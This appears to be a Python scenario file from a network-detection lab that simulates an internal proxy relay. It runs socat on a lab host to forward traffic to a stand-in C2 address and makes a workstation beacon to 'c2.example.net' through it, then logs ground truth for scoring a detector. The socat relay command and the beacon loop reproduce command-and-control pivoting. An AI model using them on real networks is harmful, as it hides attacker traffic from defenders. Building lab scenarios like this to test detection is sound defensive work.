"""Single-hop relays: a program (socat) or the kernel (nft DNAT) bridging two connections."""

from __future__ import annotations

import time
from typing import ClassVar

from hopguard.lab.env import Env
from hopguard.lab.scenarios.base import Scenario, register
from hopguard.lab.truth import Relay, ToolRun, iso


def beacon_through(env: Env, client: str, host_ip: str, port: int, name: str, n: int,
                   gap: float) -> None:
    """HTTPS requests from ``client`` to ``name`` reached through host_ip:port, with jitter."""
    for _ in range(n):
        env.curl(client, f"https://{name}:{port}/beacon", "--cacert", str(env.work / "c2.crt"),
                 "--resolve", f"{name}:{port}:{host_ip}")
        env.stop_event.wait(gap * env.rnd.uniform(0.6, 1.4))


@register
class SocatRelay(Scenario):
    name: ClassVar[str] = "socat-relay"
    description: ClassVar[str] = (
        "www-data on app-07 runs socat TCP-LISTEN:8443 → 203.0.113.66:443; ws-042 beacons to the "
        "C2 through it (T1090.001 internal proxy)")
    technique: ClassVar[str] = "T1090.001"

    def run(self, env: Env) -> None:
        lab = env.lab
        argv = ["socat", "TCP-LISTEN:8443,fork,reuseaddr", "TCP:203.0.113.66:443"]
        relay = lab.spawn("app-07", argv, user="www-data", name="socat")
        lab.wait_port("app-07", 8443)
        beacon_through(env, "ws-042", env.ip("app-07"), 8443, "c2.example.net",
                       n=max(3, int(env.duration / 3)), gap=2.0)
        time.sleep(0.5)
        lab.stop(relay)
        env.truth.relays.append(Relay(
            relay=env.ip("app-07"), host="app-07", client=env.ip("ws-042"), in_port=8443,
            upstream="203.0.113.66", up_port=443, tool="socat", kind="process", pid=relay.pid,
            user="www-data", start=iso(relay.started), end=iso(relay.ended or time.time())))
        env.truth.tools.append(ToolRun(
            host="app-07", ip=env.ip("app-07"), argv=argv, user="www-data", pid=relay.pid,
            start=iso(relay.started), end=iso(relay.ended or time.time())))
